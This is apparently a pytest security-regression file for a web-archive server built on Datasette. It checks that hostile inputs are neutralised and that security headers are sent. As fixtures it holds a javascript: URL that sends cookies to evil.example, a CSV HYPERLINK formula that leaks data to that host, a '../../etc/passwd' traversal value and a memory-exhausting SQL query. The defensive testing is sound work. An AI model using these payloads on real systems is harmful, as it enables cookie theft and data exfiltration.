"""Issue 11, the outside audit: what the archive server and the citations give out.

Links (item 5), the SQL API's limits and its reach from archived pages (item 7),
CSV formulas (item 9), hostile database rows (item 11), security headers
(item 12). Real Datasette (its test client), real WARC records and SQLite
files written through the project's own writer and store.
"""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from support import require_chromium, run_archiver, serve_asgi, start_test_crawl

from archiver.article import Article
from archiver.serve.app import make_datasette
from archiver.store import Archive, article_id
from archiver.serve import record_slug
from archiver.warc import HttpExchange, WarcWriter

WHEN = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)
EVIL_URL = "javascript:fetch('//evil.example/?'+document.cookie)//https://demo.example/a"
GOOD_URL = "https://demo.example/politics/ok"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
REQUEST = b"GET / HTTP/1.1\r\nHost: demo.example\r\n\r\n"


def _response(body: bytes) -> bytes:
    return (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(body)
        + body
    )


def build(out: Path) -> dict:
    """An archive holding what a hostile WARC or database brings: a javascript: URL, a formula title."""
    out.mkdir(parents=True, exist_ok=True)
    ids = {}
    with WarcWriter(out / "warcs", "sec", warcinfo={"crawl-id": "c1"}) as warcs, Archive(out) as archive:
        start_test_crawl(archive, started_at="2026-11-20T09:00:00Z")
        pages = [
            (EVIL_URL, "Evil link", "evil", b"<html><body><p>evil</p></body></html>"),
            (
                GOOD_URL,
                FORMULA_TITLE,
                "formula",
                b'<html><body><p>sql</p><img id="sql" src="/archive.json?sql=select+1"></body></html>',
            ),
        ]
        for minutes, (url, title, key, body) in enumerate(pages):
            cap = warcs.write(
                HttpExchange(
                    url=url,
                    request_bytes=REQUEST,
                    response_bytes=_response(body),
                    fetched_at=WHEN.replace(minute=minutes),
                )
            )
            cap.crawl_id, cap.outlet = "c1", "demo"
            archive.add_capture(cap)
            article = Article(url=url, text=f"Text of {key}. " * 20, title=title, language="en")
            archive.add_article(article, cap, outlet="demo", crawl_id="c1", conversion_record_id=None)
            ids[key] = (article_id(url), cap)
    return ids


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    out = tmp_path_factory.mktemp("security-server")
    return out, build(out)


def get(out: Path, path: str, **kwargs):
    async def run():
        return await make_datasette(out).client.get(path, **kwargs)

    return asyncio.run(run())


# -- item 5: only http(s) URLs become links ------------------------------------------------------------


def _hrefs(html: str) -> list[str]:
    return [a.get("href", "") for a in BeautifulSoup(html, "html.parser").find_all("a")]


def test_a_javascript_url_is_never_a_link_on_the_article_and_capture_pages(archive):
    out, ids = archive
    ident, cap = ids["evil"]
    for path in (f"/archive/articles/{ident}", f"/-/capture/{record_slug(cap.record_id)}"):
        page = get(out, path)
        assert page.status_code == 200, path
        hrefs = _hrefs(page.text)
        assert hrefs, path
        assert not [h for h in hrefs if not h.lower().lstrip().startswith(("http", "/", "#", "?"))], hrefs
        assert 'href="javascript:' not in page.text.lower()
        assert "not a web address, not linked" in page.text
    good_ident, _ = ids["formula"]
    assert GOOD_URL in _hrefs(get(out, f"/archive/articles/{good_ident}").text)


def test_cite_html_never_links_a_javascript_url(archive):
    out, ids = archive
    ident, _ = ids["evil"]
    proc = run_archiver("cite", ident, "--archive", str(out), "--format", "html")
    assert proc.returncode == 0, proc.stderr
    assert 'href="javascript:' not in proc.stdout.lower()
    assert "data-originalurl" in proc.stdout


def test_reindex_refuses_a_javascript_target_uri_and_names_it(archive, tmp_path):
    out, _ids = archive
    db = tmp_path / "re.db"
    proc = run_archiver("reindex", str(out / "warcs"), "--db", str(db))
    assert "Traceback" not in proc.stderr
    assert "is not an http(s) URL; not indexed" in proc.stdout + proc.stderr
    with sqlite3.connect(db) as conn:
        urls = [u for (u,) in conn.execute("select url from captures")]
    assert urls == [GOOD_URL]


# -- item 7: one SQL call is bounded; archived pages cannot reach the SQL API -------------------------------


def test_one_huge_string_fails_at_once_instead_of_building_900_mb(archive):
    """SQLite refuses (printf gives NULL, zeroblob an error) instead of building 900 MB for 8 s."""
    out, _ = archive
    sql = "select length(printf('%.*c', 900000000, 'x')) as n"
    page = get(out, "/archive.json", params={"sql": sql, "_shape": "array"})
    assert page.status_code == 200 and page.json() == [{"n": None}]
    page = get(out, "/archive.json", params={"sql": "select length(zeroblob(900000000))"})
    assert page.status_code == 400 and "too big" in page.text
    sql = "select length(printf('%.*c', 1000, 'x')) as n"
    assert get(out, "/archive.json", params={"sql": sql, "_shape": "array"}).json() == [{"n": 1000}]


@pytest.mark.parametrize(
    "headers",
    [{"sec-fetch-dest": "image"}, {"sec-fetch-dest": "style"}, {"accept": "image/avif,image/webp,*/*"}],
)
def test_the_sql_api_cannot_be_loaded_as_an_image_or_style(archive, headers):
    out, _ = archive
    for path in (
        "/archive.json?sql=select+1",
        "/archive.csv?sql=select+1",
        "/archive/articles.json",
        "/archive",
    ):
        page = get(out, path, headers=headers)
        assert page.status_code == 403, path
        assert "cannot be loaded as an image" in page.text


def test_navigations_fetches_and_the_archive_resource_routes_still_work(archive):
    out, ids = archive
    _, cap = ids["formula"]
    assert get(out, "/archive.json?sql=select+1", headers={"sec-fetch-dest": "document"}).status_code == 200
    assert get(out, "/archive.json?sql=select+1", headers={"sec-fetch-dest": "empty"}).status_code == 200
    assert get(out, "/archive.json?sql=select+1").status_code == 200  # curl, scripts
    raw = get(out, f"/-/capture/{record_slug(cap.record_id)}/raw", headers={"sec-fetch-dest": "iframe"})
    assert raw.status_code == 200
    assert get(out, "/-/static/app.css", headers={"sec-fetch-dest": "style"}).status_code == 200


# -- item 9: CSV exports carry no formulas ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/archive/articles.csv?_col=title&_col=url",
        "/archive/articles.csv?_col=title&_dl=1",
        "/archive.csv?sql=select+title,+url+from+articles",
        "/archive/articles.csv?_stream=on&_size=max",
    ],
)
def test_csv_exports_neutralise_formulas(archive, path):
    out, _ = archive
    page = get(out, path)
    assert page.status_code == 200, page.text[:500]
    rows = list(csv.reader(io.StringIO(page.text)))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles == ["'" + FORMULA_TITLE], rows
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_csv_rewriter_keeps_numbers_quotes_and_newlines():
    import sys
    from importlib import import_module

    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "datasette" / "plugins"))
    try:
        csv_safe = import_module("csv_safe")
    finally:
        sys.path.pop(0)
    text = 'a,b,c\r\n-3.5,"=1+1\r\nsecond line","@x"\r\n+7,-x,"say ""hi"""\r\n'
    rewriter = csv_safe.CsvRewriter()
    out = "".join(rewriter.feed(text[i : i + 3]) for i in range(0, len(text), 3)) + rewriter.close()
    assert list(csv.reader(io.StringIO(out))) == [
        ["a", "b", "c"],
        ["-3.5", "'=1+1\r\nsecond line", "'@x"],
        ["+7", "'-x", 'say "hi"'],
    ]


# -- item 11: a hostile database row is a clear 422/404, never a 500 ------------------------------------------


@pytest.mark.parametrize(
    "column, value, says",
    [
        ("offset", -239, "WARC offset -239"),
        ("offset", "abc", "abc, not a byte position"),
        ("warc_file", "../../etc/passwd", "unsafe WARC file"),
        ("warc_file", "sec-x\n.warc.gz", "unsafe WARC file"),
        ("offset", 5, "cannot read the capture"),
    ],
)
def test_a_hostile_captures_row_is_a_clear_error(archive, tmp_path, column, value, says):
    import shutil

    out, ids = archive
    copy = tmp_path / "copy"
    shutil.copytree(out, copy)
    _, cap = ids["formula"]
    with sqlite3.connect(copy / "archive.db") as conn:
        conn.execute(f'update captures set "{column}" = ? where record_id = ?', [value, cap.record_id])
    slug = record_slug(cap.record_id)
    for path in (f"/-/capture/{slug}", f"/-/capture/{slug}/raw"):
        page = get(copy, path)
        assert page.status_code == 422, (path, page.status_code, page.text[:300])
        assert says in page.text and "archiver reindex" in page.text
        assert "Traceback" not in page.text


def test_a_missing_warc_file_is_a_404(archive, tmp_path):
    import shutil

    out, ids = archive
    copy = tmp_path / "copy"
    shutil.copytree(out, copy)
    _, cap = ids["formula"]
    with sqlite3.connect(copy / "archive.db") as conn:
        conn.execute("update captures set warc_file = 'gone.warc.gz' where record_id = ?", [cap.record_id])
    page = get(copy, f"/-/capture/{record_slug(cap.record_id)}/raw")
    assert page.status_code == 404 and "gone.warc.gz" in page.text


# -- item 12: CSP and framing on the archive's own pages ------------------------------------------------------


def test_archive_pages_send_a_strict_csp_and_refuse_framing(archive):
    out, ids = archive
    ident, cap = ids["formula"]
    for path in ("/", "/archive", "/archive/articles", f"/archive/articles/{ident}", "/-/search", "/nope"):
        page = get(out, path)
        csp = page.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp and "base-uri 'none'" in csp
        assert "default-src 'self'" in csp
        assert page.headers["x-frame-options"] == "DENY"
    raw = get(out, f"/-/capture/{record_slug(cap.record_id)}/raw")
    assert raw.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert raw.headers["content-security-policy"].endswith("frame-ancestors 'self'")
    assert raw.headers["x-frame-options"] == "SAMEORIGIN"
    assert len(raw.headers.get_list("content-security-policy")) == 1


# -- item 7 in a real browser: the framed capture's <img src="/archive.json?sql=..."> runs no query ---------------


@pytest.mark.browser
def test_an_archived_image_pointing_at_the_sql_api_runs_no_query_in_a_real_browser(archive):
    """Chromium loads the capture view; the archived page's image asks the SQL API; nothing answers it."""
    import time

    import playwright.sync_api as playwright_api  # the test extra; Debian's chromium

    chromium = require_chromium()
    out, ids = archive
    _, cap = ids["formula"]
    answered: list[tuple[str, int, str]] = []
    app = make_datasette(out).app()

    async def recording(scope, receive, send):
        async def record(message):
            if message["type"] == "http.response.start":
                headers = {k.lower(): v for k, v in scope.get("headers", [])}
                dest = headers.get(b"sec-fetch-dest", b"").decode()
                answered.append(
                    (scope["path"] + "?" + scope.get("query_string", b"").decode(), message["status"], dest)
                )
            await send(message)

        await app(scope, receive, record)

    with serve_asgi(recording) as base, playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=chromium, args=["--headless", "--no-sandbox", "--disable-gpu"]
        )
        page = browser.new_page()
        slug = record_slug(cap.record_id)
        # The capture view frames the replay: the image's URL is rewritten into the archive's
        # replay route, which answers from the WARCs and never from the SQL API.
        page.goto(f"{base}/-/capture/{slug}")
        frame = page.wait_for_selector("iframe.archive-frame").content_frame()
        frame.wait_for_load_state("load")
        deadline = time.time() + 30
        while not [a for a in answered if "archive.json" in a[0]]:
            assert time.time() < deadline, f"the browser never asked for the image: {answered}"
            time.sleep(0.1)
        replayed = list(answered)
        # The raw capture, opened directly, is not rewritten: the gate refuses the image load.
        page.goto(f"{base}/-/capture/{slug}/raw")
        deadline = time.time() + 30
        while not [a for a in answered if a[0].startswith("/archive.json")]:
            assert time.time() < deadline, f"the raw page never asked for the image: {answered}"
            time.sleep(0.1)
        browser.close()
    assert not [a for a in replayed if a[0].startswith("/archive.json")], replayed
    assert all(status != 200 for path, status, _ in replayed if "archive.json" in path), replayed
    sql = [a for a in answered if a[0].startswith("/archive.json")]
    assert sql and all(status == 403 for _, status, _ in sql), sql
    assert any(path.endswith("/raw?") and status == 200 for path, status, _ in answered), answered
